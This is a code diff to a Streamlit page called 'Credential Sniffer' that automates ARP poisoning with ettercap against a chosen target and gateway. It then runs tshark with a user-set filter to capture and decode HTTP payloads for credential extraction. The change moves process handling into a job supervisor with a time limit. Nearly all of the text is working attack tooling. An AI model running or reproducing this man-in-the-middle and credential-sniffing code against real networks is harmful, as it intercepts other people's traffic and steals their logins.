@@ -1,11 +1,10 @@
-import streamlit as st
-import subprocess
-import os
-import signal
-import shutil
 import time
+page_started = time.perf_counter()
+
+import streamlit as st
 import re
 import binascii
+from utils import run_command, command_monitor, stop_command, get_supervisor, launch_job, get_environment, page_startup
 
 st.set_page_config(page_title="Credential Sniffer", page_icon="🕵️", layout="wide")
 
@@ -13,10 +12,12 @@ st.header("🕵️ Automated MitM & Credential Sniffer")
 st.markdown("This module automates **ARP Poisoning** (Ettercap) while simultaneously running a **Packet Sniffer** (Tshark) to extract specific data matching your Wireshark filter.")
 
 # --- DEPENDENCY CHECK ---
-if not shutil.which("ettercap") or not shutil.which("tshark"):
+if not get_environment().has("ettercap", "tshark"):
     st.error("❌ Tools missing. Please run: `sudo apt install ettercap-text-only tshark`")
     st.stop()
 
+page_startup("Credential Sniffer", page_started)
+
 # --- CONFIGURATION SIDEBAR ---
 with st.sidebar:
     st.subheader("Network Configuration")
@@ -30,8 +31,15 @@ with st.sidebar:
     wireshark_filter = st.text_area("Wireshark Filter", value=default_filter, height=100)
 
 # --- SESSION STATE FOR BACKGROUND PROCESS ---
-if "mitm_pid" not in st.session_state:
-    st.session_state.mitm_pid = None
+if "mitm_job" not in st.session_state:
+    st.session_state.mitm_job = None
+
+supervisor = get_supervisor()
+mitm_job = supervisor.get(st.session_state.mitm_job)
+if mitm_job is not None and not mitm_job.running:
+    # Ended on its own, hit its time limit or was stopped from the Jobs page
+    st.session_state.mitm_job = None
+    mitm_job = None
 
 # --- SECTION 1: ATTACK CONTROL (ETTERCAP) ---
 col1, col2 = st.columns([1, 2])
@@ -41,7 +49,7 @@ with col1:
     
     # Start Attack
     if st.button("☠️ Start ARP Poisoning"):
-        if st.session_state.mitm_pid is not None:
+        if mitm_job is not None:
             st.warning("Attack is already running!")
         else:
             # Command: sudo ettercap -T -q -i eth0 -M arp:remote /TARGET// /GATEWAY//
@@ -54,33 +62,29 @@ with col1:
                 f"/{gateway_ip}//"
             ]
             
-            # Start in background, silence output so it doesn't clutter UI
-            proc = subprocess.Popen(
-                cmd, 
-                stdout=subprocess.DEVNULL, 
-                stderr=subprocess.DEVNULL,
-                preexec_fn=os.setsid # Create new session group to kill easily later
+            # Start in background under the supervisor, output is silenced so it doesn't clutter UI
+            st.session_state.mitm_job = launch_job(
+                "ettercap ARP poisoning", cmd,
+                max_runtime=1800,
+                resources=(f"iface:{interface}",)
             )
-            st.session_state.mitm_pid = proc.pid
             st.rerun()
 
     # Stop Attack
     if st.button("🛑 Stop Attack"):
-        if st.session_state.mitm_pid:
-            try:
-                os.killpg(os.getpgid(st.session_state.mitm_pid), signal.SIGTERM)
-                st.session_state.mitm_pid = None
-                st.success("Attack stopped. ARP Cache restored.")
-                st.rerun()
-            except Exception as e:
-                st.error(f"Error stopping process: {e}")
-                st.session_state.mitm_pid = None
+        if mitm_job is not None:
+            # SIGTERM lets ettercap re-ARP the victims before it exits
+            supervisor.stop(mitm_job.job_id)
+            stop_command("sniffer")
+            st.session_state.mitm_job = None
+            st.success("Attack stopped. ARP Cache restored.")
+            st.rerun()
         else:
             st.info("No active attack found.")
 
     # Status Indicator
-    if st.session_state.mitm_pid:
-        st.error(f"🔥 POISONING ACTIVE (PID: {st.session_state.mitm_pid})")
+    if mitm_job is not None:
+        st.error(f"🔥 POISONING ACTIVE (PID: {mitm_job.pid})")
         st.caption("Traffic is now being redirected through this machine.")
     else:
         st.success("🛡️ Network is Normal (Idle)")
@@ -113,14 +117,10 @@ with col2:
         return pattern.sub(decode_match, line)
         
     # We only allow sniffing if poisoning is active
-    if st.session_state.mitm_pid:
+    if mitm_job is not None:
         if st.button("👀 Start Sniffing Filtered Traffic"):
             st.info(f"Listening on {interface} with filter: `{wireshark_filter}`")
             
-            # Placeholder for logs
-            log_area = st.empty()
-            logs = []
-            
             # Tshark Command
             # -l: flush stdout immediately
             # -Y: Display Filter (The Wireshark filter)
@@ -138,37 +138,11 @@ with col2:
                 "-e", "http.file_data"  # The payload (often Hex)
             ]
             
-            try:
-                process = subprocess.Popen(
-                    tshark_cmd, 
-                    stdout=subprocess.PIPE, 
-                    stderr=subprocess.PIPE, 
-                    text=True
-                )
-                
-                # Loop to read output line by line
-                while True:
-                    line = process.stdout.readline()
-                    if not line:
-                        break # Process ended
-                        
-                    line = line.strip()
-                    if line:
-                        # 1. Decode the Hex using the new Regex function
-                        readable_line = try_decode_hex(line)
-                        logs.append(readable_line)
-                        
-                        # 2. Display formatted log
-                        # Show last 15 lines
-                        log_area.code("\n".join(logs[-15:]), language="json")
-                        
-                        # Add a small sleep to prevent CPU spiking
-                        time.sleep(0.01)
-                    
-            except Exception as e:
-                st.error(f"Sniffer error: {e}")
-            finally:
-                # Cleanup if user stops script or switches page
-                process.terminate()
+            # Sniffing shares the interface held by the poisoning job of this session.
+            # It runs in the background, so the capture keeps going and can be scrolled back while it grows.
+            run_command(tshark_cmd, background=True, key="sniffer", resources=(f"iface:{interface}",))
     else:
         st.info("Start the ARP Poisoning attack first to redirect traffic.")
+
+    # Decoded packets refresh in place, the full capture output is spilled to disk
+    command_monitor("sniffer", transform=try_decode_hex)